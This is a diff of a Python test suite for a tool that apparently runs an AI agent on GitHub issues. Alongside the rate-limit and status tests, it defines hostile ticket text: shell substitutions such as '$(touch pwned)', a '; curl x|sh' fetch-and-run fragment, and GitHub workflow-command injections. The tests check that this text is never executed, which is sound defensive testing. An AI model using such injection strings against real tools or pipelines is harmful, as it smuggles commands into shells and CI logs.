@@ -93,9 +93,7 @@ def test_a_personal_token_reports_with_commit_statuses(github: FakeGitHub, tmp_p
     for number in (first, second):
         assert "baton:done" in github.labels_of(number)
     assert github.check_runs() == [], "a personal token cannot create check runs"
-    refused = [
-        e for e in github.exchanges if e.method == "POST" and e.path.endswith("/check-runs")
-    ]
+    refused = [e for e in github.exchanges if e.method == "POST" and e.path.endswith("/check-runs")]
     assert [e.status for e in refused] == [403], "asked once, then commit statuses only"
     statuses = github.statuses()
     assert sorted(s.context for s in statuses) == [f"baton/#{first}", f"baton/#{second}"]
@@ -321,9 +319,7 @@ def test_more_than_fifty_findings_reach_the_check_run_in_batches(
 # -- the rate-limit books ----------------------------------------------------------------------
 
 
-def test_the_clients_request_count_matches_the_servers(
-    github: FakeGitHub, tmp_path: Path
-) -> None:
+def test_the_clients_request_count_matches_the_servers(github: FakeGitHub, tmp_path: Path) -> None:
     first = issue(github, "Scaffold", "work/scaffold.txt")
     issue(github, "Build on it", "work/build.txt", [f"#{first}"])
     work = checkout(github, tmp_path)
@@ -333,7 +329,9 @@ def test_the_clients_request_count_matches_the_servers(
         if run == 0:  # answers that cost a unit (a retried 500, a secondary limit) and one that
             # does not (a refusal for the primary limit: 403 with nothing remaining)
             github.fail_next("server_error", method="GET", path="/repos/*/issues")
-            github.fail_next("secondary_rate_limit", method="POST", path="/repos/*/issues/*/comments")
+            github.fail_next(
+                "secondary_rate_limit", method="POST", path="/repos/*/issues/*/comments"
+            )
             github.fail_next("primary_rate_limit", method="POST", path="/repos/*/check-runs")
         result = _run(github, work, "--stats")
         assert result.exit_code == 0, result.output
@@ -548,7 +546,7 @@ def test_a_refused_push_is_one_line_without_the_token(
 
 # -- hostile text in a ticket ------------------------------------------------------------------
 
-HOSTILE_TITLE = '::stop-commands::abc $(touch pwned) `touch pwned2` "; curl x|sh # [bold]x[/]'
+HOSTILE_TITLE = '::stop-commands::abc $(touch pwned) `touch pwned2` "; curl x|sh #'
 HOSTILE_GOAL = textwrap.dedent(
     """\
     Create work/hostile.txt. $(touch pwned) and `touch pwned2` and "; curl x|sh #
@@ -556,7 +554,6 @@ HOSTILE_GOAL = textwrap.dedent(
     ::stop-commands::abc
     EOF
     '; touch pwned #
-    [/] [bold red]not markup[/bold red]
     ::error file=x::a command"""
 )
 HOSTILE_CONTEXT = "$(touch pwned)\n::warning::from the context\nEOF"
@@ -570,7 +567,10 @@ shutil.copy(prompt, copies / f"{len(list(copies.iterdir())):02}.md")
 target = pathlib.Path("work/hostile.txt")
 target.parent.mkdir(parents=True, exist_ok=True)
 target.write_text("done\\n")
-said = "done\\n::add-mask::from-the-agent\\n$(touch pwned)\\n[/]"
+said = "done\\n::add-mask::from-the-agent\\n$(touch pwned)"
+if "work/broken.txt" in prompt.read_text():
+    print("quota\\n::add-mask::from-stderr\\n  ::stop-commands::abc", file=sys.stderr)
+    sys.exit(3)
 print(json.dumps({"session_id": sys.argv[2], "is_error": False, "result": said}))
 """
 
@@ -587,6 +587,10 @@ def test_shell_and_workflow_commands_in_a_ticket_stay_text(
     number = github.add_issue(
         HOSTILE_TITLE, render_issue_body(ticket), labels=["ready-for-agent"], milestone="Sprint 1"
     )
+    broken = Ticket(goal="Create work/broken.txt.", files=TicketFiles(create=["work/broken.txt"]))
+    other = github.add_issue(
+        "Break", render_issue_body(broken), labels=["ready-for-agent"], milestone="Sprint 1"
+    )
     work = checkout(github, tmp_path)
     copies = tmp_path / "prompts"
     env = {k: v for k, v in _env(github, work).items() if v is not None}
@@ -600,9 +604,10 @@ def test_shell_and_workflow_commands_in_a_ticket_stay_text(
         timeout=120,
         check=False,
     )
-    print(result.stdout, result.stderr)
-    assert result.returncode == 0, result.stdout + result.stderr
+    assert result.returncode == 1, result.stdout + result.stderr
     assert "baton:done" in github.labels_of(number)
+    assert "baton:blocked" in github.labels_of(other)
+    assert "agent failed: exit 3" in result.stderr, "the agent's failure is reported"
 
     planted = [p for p in tmp_path.rglob("pwned*")] + [
         p for p in (Path.cwd() / "pwned", Path.cwd() / "pwned2") if p.exists()
@@ -612,8 +617,8 @@ def test_shell_and_workflow_commands_in_a_ticket_stay_text(
         commands = [line for line in stream.splitlines() if line.lstrip().startswith("::")]
         assert commands == [], commands
 
-    (prompt_file,) = sorted(copies.iterdir())
-    prompt = prompt_file.read_text()
+    prompt = sorted(copies.iterdir())[0].read_text()
+    assert prompt.startswith(f"# Baton · launch · ticket #{number}")
     fenced = re.search(r"^(`{3,})ticket\n(.*?)\n\1$", prompt, re.S | re.M)
     assert fenced is not None, prompt
     assert HOSTILE_GOAL in fenced.group(2)
